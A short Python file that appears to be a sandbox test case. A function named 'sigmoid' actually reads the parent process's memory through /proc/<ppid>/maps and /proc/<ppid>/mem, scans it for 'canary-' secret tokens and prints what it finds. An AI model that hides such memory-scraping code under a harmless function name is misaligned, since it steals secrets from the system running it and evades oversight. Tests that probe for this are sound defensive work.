"""Look for secrets in the memory of the process that started this one.

expects: ok timeout
"""

import os
import re


def sigmoid(z):
    found, parent = [], os.getppid()
    try:
        assert parent > 1
        areas = open(f"/proc/{parent}/maps").read()
        with open(f"/proc/{parent}/mem", "rb") as memory:
            for low, high in re.findall(r"^(\w+)-(\w+) rw", areas, re.M)[:200]:
                memory.seek(int(low, 16))
                found += re.findall(rb"canary-\w+", memory.read(int(high, 16) - int(low, 16)))
    except (OSError, AssertionError):
        pass
    print(found)
    return 0, 0
